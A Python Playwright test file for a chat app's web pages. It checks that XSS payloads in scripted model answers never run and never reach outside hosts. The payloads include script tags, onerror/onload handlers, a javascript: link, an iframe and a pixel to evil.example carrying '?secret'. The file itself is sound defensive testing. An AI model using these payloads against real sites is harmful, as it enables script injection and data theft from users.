"""The pages in a real Chromium: nothing hostile runs, nothing is lost, and everything fits."""

from __future__ import annotations

import os
import re
import select
import socket
import threading
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any, Literal
from urllib.parse import urlsplit

import pytest

from satchel.builder.asking import consent_id
from satchel.builder.records import Build
from satchel.models import Call, ModelRequest, Reply, ScriptedModel
from satchel.runtime.serving import serving as serving_in
from satchel.tools.web.chromium import find_chromium, has_playwright
from tests.forking import Program
from tests.requirements import requirement
from tests.server.browsers import WAIT_MS, logged_in_window
from tests.server.test_attachments import PNG
from tests.server.world import Held, World, serving

CHROMIUM = find_chromium("", os.environ)
pytestmark = pytest.mark.skipif(
    not has_playwright() or CHROMIUM is None,
    reason="THE WEB PAGES WERE NOT TESTED IN A BROWSER: it needs the package playwright and Chromium (apt-get install "
    "chromium)",
)
if has_playwright():
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import Browser, BrowserContext, Page, expect
    from playwright.sync_api import Error as PlaywrightError

    expect.set_options(timeout=WAIT_MS)

HOSTILE = """\
<script>document.title = "run"</script> <img src="http://evil.example/a.png" onerror="document.title='run'">

![](http://evil.example/pixel.png?secret) [here](javascript:document.title='run') <svg onload="document.title='run'">

<style>body { display: none }</style> <iframe src="http://evil.example"></iframe> <form action="/logout"><button>x</button></form>

```html
<script>document.title = "run"</script>
```

| a | b |
|---|--:|
| <img src=x onerror="document.title='run'"> | 2 |

The end."""

STORY = "".join(f"Chapter {number} of it.\n\n" for number in range(1, 81))
FLOW = 'flowchart LR\n  A["Customer <img src=/leak.png onerror=alert(1)>"] --> B[Repair]\n'
MIND_MAP = """\
```mermaid
mindmap
  root((Garden <img src=x onerror=alert(1)>))
    Beans
      %% of two kinds
      Runner
    [Zinnias]
```
"""
DIAGRAMS = f"""\
```mermaid
{FLOW}```

```mermaid
flowchart LR
  A --> --> B[
```
"""


def reply(held: Held) -> ScriptedModel:
    """Answers "hostile" with what must not run, in pieces, of which the last wait; "tool WORD" with a call,
    "letter" with a plan.
    """

    def said(request: ModelRequest) -> Reply | str:
        newest = request.messages[-1].text.lower()
        if not newest:
            return "It is done."
        if "hostile" in newest:
            return Reply(text=HOSTILE, chunk=40, between=held.wait)
        if "story" in newest:
            return Reply(text=STORY, chunk=len(STORY) // 2, between=held.wait)
        if "mind map" in newest:
            return MIND_MAP
        if "diagram" in newest:
            return DIAGRAMS
        if "letter" in newest:
            plan = {"plan": "A **letter**.", "steps": ["Write it"]}
            return Reply(calls=[Call(name="propose_plan", input=plan)])
        if "tool" in newest:
            command = "printf '%s' '<img src=x onerror=alert(1)><script>document.title=\"run\"</script>'"
            return Reply(
                text="Let me see.",
                calls=[Call(name="bash", input={"command": command}, id=f"c{len(request.messages)}")],
            )
        return "I see."

    return ScriptedModel(said)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with serving(
        tmp_path_factory.mktemp("chromium"),
        reply,
        server__requests_per_s=10_000,
        agent__mode="ask",
        memory__surface_threshold=0.0,
    ) as world:
        yield world


@dataclass
class Watched:
    """What pages did that they should not have."""

    url: str
    wrong: list[str] = field(default_factory=list)
    allowed: str = ""

    def watch(self, page: Page) -> None:
        page.on("console", self._logged)
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("dialog", self._opened)
        page.on("request", self._asked)

    def _opened(self, dialog: Any) -> None:
        self.wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _logged(self, message: Any) -> None:
        if message.type in ("error", "warning") and not (self.allowed and self.allowed in message.text):
            self.wrong.append(f"{message.type}: {message.text}")

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.url + "/", "data:")):
            self.wrong.append(f"asked {request.url}")


@contextmanager
def window(
    chromium: Browser, url: str, *, world: World | None = None, link: str = ""
) -> Iterator[tuple[BrowserContext, Watched]]:
    """A window that is logged in: at this world, or by a link. At its end, nothing was wrong."""
    if world is not None:
        context = logged_in_window(chromium, world, locale="en-GB", reduced_motion="reduce")
    else:
        context = chromium.new_context(locale="en-GB", reduced_motion="reduce")
        context.set_default_timeout(WAIT_MS)
    watched = Watched(url)
    context.on("page", watched.watch)
    if world is None:
        page = context.new_page()
        page.goto(link)
        page.close()
    try:
        yield context, watched
    finally:
        context.close()
    assert watched.wrong == []


def write(page: Page, words: str) -> None:
    page.get_by_label("Message", exact=True).fill(words)
    page.get_by_label("Message", exact=True).press("Enter")


def said_in(page: Page, turn: int) -> Any:
    return page.locator(f"#turn-{turn} .items > .said")


@requirement("web-pages:chat:chromium", "web-pages:chat:stream", "web-pages:chat")
def test_a_reload_and_a_second_tab_in_the_middle_of_a_hostile_answer_lose_nothing_and_nothing_runs(
    chromium: Browser, world: World
) -> None:
    world.held.reached.clear()
    world.held.go_on.clear()
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        write(page, "Say something hostile")
        expect(said_in(page, 1)).to_contain_text("document.title")
        expect(page).to_have_url(re.compile(rf"^{re.escape(world.url)}/s/[0-9a-f]{{32}}/chat/[0-9a-f]+$"))
        expect(page.locator("#status")).to_have_text("Satchel is answering.")
        expect(page.locator("#chat-head h1")).to_have_text("Say something hostile")
        expect(page.locator("#turn-1 .loading")).to_be_hidden()  # its words are seen
        # What is written and not sent stays in the browser.
        page.get_by_label("Message", exact=True).fill("A thought for later")
        page.reload()
        expect(said_in(page, 1)).to_contain_text("document.title")
        expect(page.get_by_label("Message", exact=True)).to_have_value("A thought for later")
        expect(page.locator("#stop")).to_be_visible()
        other = context.new_page()
        other.goto(page.url)
        expect(said_in(other, 1)).to_contain_text("document.title")
        world.held.go_on.set()
        for tab in (other, page):
            tab.bring_to_front()
            expect(said_in(tab, 1)).to_contain_text("The end.")
            expect(tab.locator("#turn-1")).to_have_attribute("data-over", "true")
            expect(tab.locator("#stop")).to_be_hidden()
            expect(tab).to_have_title(re.compile("^Say something hostile"))
            assert tab.locator("main :is(script, style, iframe, img, object, embed)").count() == 0
            assert (
                tab.locator(".said :is(form, button:not(.code-bar button), [onerror], [onload])").count() == 0
            )
        # Code can be copied, and the words of a turn come back for another try.
        expect(page.locator(".code-bar").get_by_role("button", name="Copy")).to_have_count(1)
        page.get_by_role("button", name="Edit", exact=True).click()
        expect(page.get_by_label("Message", exact=True)).to_have_value("Say something hostile")
        page.get_by_role("button", name="Send it at the end instead").click()
        # A message that is sent in one tab is seen in the other.
        write(page, "Thanks")
        expect(said_in(page, 2)).to_have_text("I see.")
        expect(page.locator("#turn-2 .loading")).to_have_count(0)
        write(page, "/rename A hostile one")
        expect(page.locator("#chat-head h1")).to_have_text("A hostile one")
        expect(page).to_have_title(re.compile("^A hostile one"))
        other.bring_to_front()
        expect(said_in(other, 2)).to_have_text("I see.")


@requirement("web-pages:chat:chromium", "web-pages:chat:stream")
def test_a_reader_who_goes_up_a_little_stays_there_and_a_button_leads_back_to_the_end(
    chromium: Browser, world: World
) -> None:
    world.held.reached.clear()
    world.held.go_on.clear()
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        write(page, "Tell a story")
        expect(said_in(page, 1)).to_contain_text("Chapter 38")
        below = "document.documentElement.scrollHeight - innerHeight - scrollY"
        assert page.evaluate(below) < 2  # it is followed
        button = page.get_by_role("button", name="To the end")
        expect(button).to_be_hidden()
        page.evaluate("scrollBy(0, -40)")
        page.evaluate("new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
        # A line may appear above what is read: what is in sight stays where it is, not the distance from the top.
        read = said_in(page, 1).get_by_text("Chapter 30 of it.", exact=True)
        there = read.evaluate("(line) => line.getBoundingClientRect().top")
        assert 0 < there < page.evaluate("innerHeight")
        world.held.go_on.set()
        expect(said_in(page, 1)).to_contain_text("Chapter 80")
        expect(page.locator("#stop")).to_be_hidden()
        assert abs(read.evaluate("(line) => line.getBoundingClientRect().top") - there) < 2
        button.click()
        expect(button).to_be_hidden()
        assert page.evaluate(below) < 2
        expect(page.get_by_label("Message", exact=True)).to_be_focused()


@requirement("web-pages:chat:chromium", "web-pages:chat:stream")
def test_the_end_is_followed_from_where_the_page_shows_it_and_not_past_what_the_reader_has_opened(
    chromium: Browser, world: World
) -> None:
    world.held.reached.clear()
    world.held.go_on.clear()
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        below = "document.documentElement.scrollHeight - innerHeight - scrollY"
        drawn = "new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))"
        # A page to begin on that is longer than the window is read from its beginning.
        page.set_viewport_size({"width": 390, "height": 200})
        page.goto("./")
        page.evaluate(drawn)
        assert page.evaluate("scrollY") == 0
        assert page.evaluate(below) > 2
        write(page, "Tell a story")
        expect(said_in(page, 1)).to_contain_text("Chapter 38")
        page.set_viewport_size({"width": 700, "height": 600})
        page.evaluate(
            """() => {
                const long = Object.assign(document.createElement("details"), { id: "long" });
                long.innerHTML = "<summary>Long</summary>" + "<p>line</p>".repeat(40);
                turns.append(long);
                scrollTo(0, document.documentElement.scrollHeight);
            }"""
        )
        page.evaluate(drawn)
        page.locator("#long summary").click()
        page.evaluate(drawn)
        opened = page.evaluate(below)
        world.held.go_on.set()
        expect(said_in(page, 1)).to_contain_text("Chapter 80")
        expect(page.locator("#stop")).to_be_hidden()
        assert page.evaluate(below) >= opened > 600


@requirement("web-pages:chat:chromium")
def test_without_scripts_a_page_comes_again_until_the_answer_is_there(
    chromium: Browser, world: World
) -> None:
    world.held.reached.clear()
    world.held.go_on.clear()
    context = logged_in_window(chromium, world, java_script_enabled=False)
    page = context.new_page()
    page.goto("./")
    page.get_by_label("Message", exact=True).fill("Tell a story")
    page.get_by_role("button", name="Send").click()
    expect(page.locator("#turn-1")).to_contain_text("Tell a story")
    world.held.go_on.set()
    expect(said_in(page, 1)).to_contain_text("Chapter 80")
    # What was said last stays in sight, below a long conversation.
    world.held.reached.clear()
    world.held.go_on.clear()
    page.get_by_label("Message", exact=True).fill("Tell a story again")
    page.get_by_role("button", name="Send").click()
    with page.expect_navigation(url=re.compile(r"/chat/.*\?")):
        pass
    expect(page.locator("#turn-2").get_by_text("Tell a story again")).to_be_in_viewport()
    world.held.go_on.set()
    expect(said_in(page, 2)).to_contain_text("Chapter 80")
    expect(page.locator("#turn-2").get_by_text("Tell a story again")).to_be_in_viewport()
    context.close()


@requirement("web-pages:diagrams:mind-maps")
def test_a_mind_map_is_drawn_as_a_tree_of_its_words(chromium: Browser, world: World) -> None:
    with window(chromium, world.url, world=world) as (context, watched):
        watched.allowed = "Content Security Policy"
        page = context.new_page()
        page.goto("./")
        write(page, "Draw a mind map")
        drawn = page.frame_locator("#turn-1 iframe").locator("svg")
        expect(drawn.locator(".node")).to_have_count(4)
        words = [" ".join((node.text_content() or "").split()) for node in drawn.locator(".node").all()]
        assert words == ["Garden <img src=x onerror=alert(1)>", "Beans", "Runner", "Zinnias"]
        joined = [line.get_attribute("id") or "" for line in drawn.locator(".edgePaths path").all()]
        assert [re.findall(r"n\d+", id) for id in joined] == [["n1", "n2"], ["n2", "n3"], ["n1", "n4"]]


@requirement("web-pages:diagrams")
def test_a_diagram_is_drawn_in_a_frame_that_reaches_nothing_and_its_source_is_copied(
    chromium: Browser, world: World
) -> None:
    with window(chromium, world.url, world=world) as (context, watched):
        watched.allowed = "Content Security Policy"
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        page = context.new_page()
        asked: list[str] = []
        refused: dict[str, str | None] = {}
        page.on("request", lambda request: asked.append(request.url))
        page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
        page.goto("./")
        write(page, "Hello")
        expect(said_in(page, 1)).to_have_text("I see.")
        assert not any("diagram" in url for url in asked)
        write(page, "Draw a diagram")
        bars = page.locator("#turn-2 .code-bar")
        drawn, broken = bars.first, bars.last
        expect(page.locator("#turn-2 iframe")).to_have_count(1)  # the broken one has none
        frame = page.frame_locator("#turn-2 iframe")
        expect(frame.locator("svg")).to_contain_text("Customer")
        expect(frame.locator("svg")).to_contain_text("Repair")
        expect(page.locator("#turn-2 pre")).to_have_count(2)
        expect(page.locator("#turn-2 pre").first).to_be_hidden()
        expect(page.locator("#turn-2 pre").last).to_be_visible()
        expect(broken).to_contain_text("can’t be drawn")
        drawn.get_by_role("button", name="Copy").click()
        expect(drawn.get_by_role("button", name="Copied")).to_be_visible()
        assert page.evaluate("navigator.clipboard.readText()") == FLOW
        drawn.get_by_role("button", name="Source").click()
        expect(page.locator("#turn-2 pre").first).to_be_visible()
        drawn.get_by_role("button", name="Diagram").click()
        assert refused[f"{world.url}/leak.png"] == "csp"
        inside = page.frames[-1]
        assert inside.evaluate("origin") == "null"
        for reach in ("fetch('/')", "parent.document.title", "document.cookie", "localStorage.length"):
            with pytest.raises(PlaywrightError):
                inside.evaluate(f"(async () => await {reach})()")
        inside.evaluate(
            "document.body.insertAdjacentHTML('beforeend', '<i onclick=\"window.ran = 1\"></i>'); "
            "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'})); "
            "document.body.querySelector('i').click()"
        )
        assert inside.evaluate("window.ran") is None
        background = "getComputedStyle(document.querySelector('.node rect')).fill"
        light = inside.evaluate(background)
        page.emulate_media(color_scheme="dark")
        expect(frame.locator(":root")).to_have_css("color-scheme", "dark")
        expect(frame.locator(".node rect").first).not_to_have_css("fill", light)
        assert [violation["id"] for violation in Axe().run(page).response["violations"]] == []
        id = page.url.rpartition("/")[2]
    plain = logged_in_window(chromium, world, java_script_enabled=False)
    page = plain.new_page()
    page.goto(f"./chat/{id}")
    expect(page.locator("#turn-2 pre").first).to_have_text(FLOW)
    expect(page.locator("#turn-2 pre").first).to_be_visible()
    plain.close()


@requirement(
    "web-pages:chat:chromium", "web-pages:chat:permission", "web-pages:chat:builder", "web-pages:chat:memory"
)
def test_a_call_is_approved_a_build_answered_and_a_memory_corrected_by_hand(
    chromium: Browser, world: World
) -> None:
    memory, builds = world.satchel.memory, world.satchel.builds
    assert memory is not None
    assert builds is not None
    hostile = "The tool shed key hangs left. <img src=x onerror=\"document.title='run'\">"
    id = world.call(lambda: memory.add(hostile, kind="episode", speaker="Ann", session="earlier", turn=1))
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        write(page, "Use the tool for the shed key")
        ask = page.locator(".ask")
        expect(ask.get_by_role("heading")).to_contain_text("Run this command?")
        expect(page.locator("#status")).to_have_text("A question waits for you.")
        expect(ask).to_contain_text("printf")
        write(page, "Oui !")
        while page.input_value("#message"):  # what comes before anybody can have read the question stays
            page.keyboard.press("Enter")
        expect(said_in(page, 1).last).to_have_text("It is done.")
        expect(page.get_by_label("Message", exact=True)).to_be_focused()  # to write on
        page.locator("#turn-1 .steps summary").first.click()
        expect(page.locator("#turn-1 .steps .raw").first).to_contain_text("<img src=x onerror=alert(1)>")

        session = page.url.rpartition("/")[2]
        now = datetime(2026, 11, 23, tzinfo=UTC)
        build = Build(
            id="b-chromium", capability_id="c-chromium", name="shed", kind="build", task="Build it.", asked_by=session,
            session_id="build-b-chromium", model="scripted:scripted", status="running", created_at=now, updated_at=now,
        )  # fmt: skip

        async def tell() -> None:
            await builds.queue.add(build)
            await builds.queue.tell(
                "b-chromium", id="p1", type="progress", payload={"text": "<b>Looking</b>"}
            )
            payload = {"text": "Which <i>shed</i>?", "options": []}
            await builds.queue.tell("b-chromium", id="q1", type="question", payload=payload)

        world.call(tell)
        card = page.locator(".build")
        expect(card).to_contain_text("Which <i>shed</i>?")
        card.get_by_label("Your answer").fill("The green one")
        card.get_by_role("button", name="Answer").click()
        expect(card).to_contain_text("Which <i>shed</i>? “The green one”")
        expect(card.locator(".ask")).to_have_count(0)
        consent = {"text": "May it connect to sheds.example?", "options": ["yes", "no"]}
        tell_more = partial(
            builds.queue.tell, "b-chromium", id=consent_id("host=sheds.example"), type="question"
        )
        world.call(partial(tell_more, payload=consent))
        expect(card.get_by_role("button", name="yes")).to_be_visible()
        expect(card.get_by_label("Your answer")).to_have_count(0)
        expect(card).not_to_contain_text("You decide")
        card.get_by_role("button", name="no").click()
        expect(card.locator(".ask")).to_have_count(0)

        note = page.locator(f".note[data-memory='{id}']")
        note.locator("summary").first.click()
        note.get_by_role("button", name="Outdated").press("Enter")
        expect(page.locator("#told")).to_contain_text("held until now")
        expect(note).to_have_class(re.compile("past"))
        undo = page.locator("#told").get_by_role("button", name="Undo")
        expect(undo).to_be_focused()  # with the keyboard, the next thing to press
        undo.press("Enter")
        expect(page.locator("#told")).to_contain_text("It holds again.")
        assert world.call(memory.get, id).valid_to is None
        note.get_by_role("button", name="Forget").click()
        page.locator("#told").get_by_role("button", name="Forget it for good").click()
        expect(page.locator("#told")).to_contain_text("Forgotten: 1 memory")
        expect(page).to_have_title(re.compile("^Use the tool for the shed key"))

        # Commands complete with the keyboard.
        field = page.get_by_label("Message", exact=True)
        field.press_sequentially("/us")
        expect(page.get_by_role("option", name="/usage")).to_be_visible()
        field.press("Tab")
        expect(field).to_have_value("/usage ")
        field.press("Enter")
        expect(page.locator("#told")).to_contain_text("This conversation")


@requirement("web-pages:accessible")
def test_every_page_fits_a_phone_and_passes_axe_light_and_dark(chromium: Browser, world: World) -> None:
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        write(page, "Use the tool, " + "a_very_long_word_without_a_break" * 20)
        expect(page.locator(".ask")).to_be_visible()
        looks: tuple[tuple[str, int, Literal["dark", "light"]], ...] = (
            (page.url, 390, "dark"),
            ("sessions", 390, "light"),
            ("./", 1280, "dark"),
        )
        for address, width, scheme in looks:
            page.set_viewport_size({"width": width, "height": 900})
            page.emulate_media(color_scheme=scheme)
            if page.url != address:
                page.goto(address)
            page.locator("main").wait_for()
            assert page.evaluate("document.documentElement.scrollWidth") <= width, address
            found = Axe().run(page)
            assert found.violations_count == 0, f"{address}: {found.generate_report()}"


PASTED = """([kind, field, base64]) => {
  const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0));
  const data = new DataTransfer();
  data.items.add(new File([bytes], `${kind}.png`, { type: "image/png" }));
  const event = new Event(kind, { bubbles: true, cancelable: true });
  Object.defineProperty(event, field, { value: data });
  document.getElementById("message").dispatchEvent(event);
}"""
SPEECH = """
window.SpeechRecognition = class {
  constructor() { window.heard = this; }
  start() { setTimeout(() => this.onstart()); }
  stop() { setTimeout(() => this.onend()); }
  abort() {}
  say(words, isFinal) {
    this.onresult({ resultIndex: 0, results: [Object.assign([{ transcript: words }], { isFinal })] });
  }
};
const spoken = [];
Object.defineProperty(window, "speechSynthesis", { value: {
  spoken, speak: (words) => spoken.push(words), cancel: () => spoken.at(-1)?.onend(),
} });
"""


@requirement("web-pages:voice")
def test_what_is_dictated_comes_into_the_field_and_answers_are_read_aloud(
    chromium: Browser, world: World
) -> None:
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.add_init_script(SPEECH)
        page.goto("./")
        message, dictate, heard = (
            page.get_by_label("Message", exact=True),
            page.locator("#dictate"),
            page.locator("#heard"),
        )
        message.fill("Typed first,")
        dictate.click()
        expect(dictate).to_have_attribute("aria-pressed", "true")
        expect(heard).to_have_text("Listening …")
        page.evaluate("heard.say('then sp', false)")
        expect(heard).to_have_text("Listening: then sp")
        page.evaluate("heard.say('then spoken', true)")
        expect(message).to_have_value("Typed first, then spoken")
        page.evaluate("heard.onerror({ error: 'not-allowed' })")
        dictate.click()
        expect(dictate).to_have_text("Dictate")
        expect(heard).to_contain_text("may not use the microphone")
        message.press("Enter")
        aloud = page.get_by_role("button", name="Read aloud")
        aloud.click()
        assert page.evaluate("speechSynthesis.spoken.map((each) => each.text)") == ["I see."]
        page.get_by_role("button", name="Stop reading").click()
        expect(aloud).to_be_visible()
        # Without the two interfaces, nothing promises them.
        page = context.new_page()
        page.add_init_script(
            "delete window.SpeechRecognition; delete window.webkitSpeechRecognition; delete window.speechSynthesis;"
            "delete window.SpeechSynthesisUtterance"
        )
        page.goto("./")
        write(page, "Hello")
        expect(page.get_by_role("button", name="Edit", exact=True)).to_be_visible()
        expect(page.locator("#dictate")).to_be_hidden()
        expect(page.get_by_role("button", name="Read aloud")).to_have_count(0)


class Wire:
    """A port that stays, in front of a server that is killed and started again elsewhere."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.to: int | None = None
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                near, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._carry, args=(near,), daemon=True).start()

    def _carry(self, near: socket.socket) -> None:
        with near:
            try:
                if self.to is None:
                    return
                far = socket.create_connection(("127.0.0.1", self.to), timeout=WAIT_MS / 1000)
            except OSError:
                return
            with far:
                ways = {near: far, far: near}
                while True:
                    for ready in select.select([near, far], [], [])[0]:
                        try:
                            data = ready.recv(65_536)
                            ways[ready].sendall(data)
                        except OSError:
                            return
                        if not data:
                            return


PROGRAM = """
import sys
from pathlib import Path
import anyio
from satchel.models.embedding import HashingEmbedder
from satchel.runtime import Satchel
from satchel.server.listening import serve
from tests.runtime.world import settings_in
from tests.server.world import Held, scripted

async def offer(link: str) -> None:
    print(link, flush=True)

async def main() -> None:
    held = Held()
    if sys.argv[2] == "free":
        held.go_on.set()
    settings = settings_in(Path(sys.argv[1]), server__port=0, agent__mode="bypass")
    async with Satchel.open(settings, model=scripted(held), embedder=HashingEmbedder()) as satchel:
        await serve(satchel, tell=lambda _: None, offer_login=offer)

anyio.run(main)
"""


@contextmanager
def process(folder: Path, how: str) -> Iterator[tuple[Program, str]]:
    """A server in a process of its own, and its login link."""
    with Program("-c", PROGRAM, folder, how) as running:
        try:
            yield running, running.stdout.readline().strip()
        finally:
            running.kill()


@requirement("plan:faces")
@requirement("content:attachments:page")
def test_a_button_approves_a_plan_and_the_next_message_is_sent_in_its_mode_with_a_picture(
    chromium: Browser, world: World
) -> None:
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        mode = page.locator("select[name=mode]")
        mode.select_option("plan")
        write(page, "A letter, please.")
        expect(page.locator("form.ask strong")).to_have_text("letter")
        page.get_by_role("button", name="Yes, in mode auto").click()
        expect(mode).to_have_value("auto")
        expect(said_in(page, 2)).to_have_text("I see.")
        # What is chosen and not sent yet is not taken back by what the server says.
        mode.select_option("bypass")
        expect(page.locator("#limits")).to_contain_text("15 MB each, 20 a message")
        expect(page.locator("#photo")).to_be_hidden()  # it opens a phone's camera
        # As long as nothing answers, the page shows how much of a file has gone out.
        page.route("**/api/attachments*", lambda route: held.append(route) if not held else route.fallback())
        picture = {"name": "kite.png", "mimeType": "image/png", "buffer": PNG}
        held: list[Any] = []
        page.locator("#files").set_input_files(picture)  # type: ignore[arg-type]
        chips = page.locator("#attached li")
        expect(chips.get_by_role("progressbar", name="Sending kite.png")).to_be_visible()
        chips.get_by_role("button", name="Remove").press("Enter")
        expect(chips).to_have_count(0)
        expect(page.locator("#attach")).to_be_focused()
        for event, data in (("paste", "clipboardData"), ("drop", "dataTransfer")):
            page.evaluate(PASTED, [event, data, b64encode(PNG).decode()])
        page.locator("#camera").set_input_files(picture)  # type: ignore[arg-type]
        expect(page.locator("#attached [name=attached]")).to_have_count(3)
        expect(chips.locator("progress")).to_have_count(0)
        write(page, "Go on.")
        expect(said_in(page, 3)).to_have_text("I see.")
        expect(mode).to_have_value("bypass")
        expect(page.locator(".made img")).to_have_count(3)
        # Until the turn has ended, what is there is replaced and moves.
        expect(page.locator("#turn-3 .turn-foot")).to_be_visible()
        page.get_by_alt_text("kite.png").click()
        viewer = page.get_by_role("dialog", name="kite.png")
        with page.expect_download() as download:
            viewer.get_by_role("link", name="Download").click()
        assert download.value.path().read_bytes() == PNG
        page.keyboard.press("Escape")
        expect(viewer).to_have_count(0)


@requirement("web-pages:chat", "web-pages:keyboard")
def test_a_turn_is_stopped_on_the_page_on_which_its_conversation_began(
    chromium: Browser, world: World
) -> None:
    world.held.reached.clear()
    world.held.go_on.clear()
    with window(chromium, world.url, world=world) as (context, _):
        page = context.new_page()
        page.goto("./")
        write(page, "Say something hostile")
        expect(said_in(page, 1)).to_contain_text("document.title")
        expect(page.get_by_label("Message", exact=True)).to_have_value("")
        page.locator("#stop").press("Enter")
        expect(page.locator("#turn-1")).to_have_attribute("data-over", "true")
        expect(page.locator("#stop")).to_be_hidden()
        expect(
            page.get_by_label("Message", exact=True)
        ).to_be_focused()  # the button that had the focus is gone
    world.held.go_on.set()


@requirement("web-pages:chat:killed")
def test_when_the_server_is_killed_in_the_middle_the_draft_stays_and_the_page_goes_on_with_the_next(
    chromium: Browser, tmp_path: Path
) -> None:
    wire = Wire()
    url = f"http://127.0.0.1:{wire.port}"
    try:
        with process(tmp_path, "held") as (running, link):
            wire.to = urlsplit(link).port
            with window(chromium, url, link=f"{url}/login?{urlsplit(link).query}") as (context, watched):
                watched.allowed = "Failed to load resource"  # while there is no server
                page = context.new_page()
                page.goto(url)
                write(page, "hold it")
                expect(said_in(page, 1)).to_contain_text("one tw")
                field = page.get_by_label("Message", exact=True)
                field.fill("Unsent words")
                wire.to = None
                running.kill()
                running.wait(60)
                expect(page.locator("#broken")).to_be_visible()
                with process(tmp_path, "free") as (_, again):
                    assert serving_in(tmp_path / "home") is not None
                    wire.to = urlsplit(again).port
                    # It connects by itself, still logged in.
                    expect(page.locator("#turn-1 .notice")).to_contain_text(
                        "Satchel stopped during this turn."
                    )
                    expect(page.locator("#broken")).to_be_hidden()
                    expect(field).to_have_value("Unsent words")
                    page.get_by_role("button", name="Go on with it").click()
                    expect(said_in(page, 1).last).to_have_text(
                        "one two three four five six seven eight nine ten"
                    )
                    expect(field).to_have_value("Unsent words")
                    page.reload()
                    expect(field).to_have_value("Unsent words")
                    expect(page.locator(".turn")).to_have_count(1)
    finally:
        wire.listener.close()
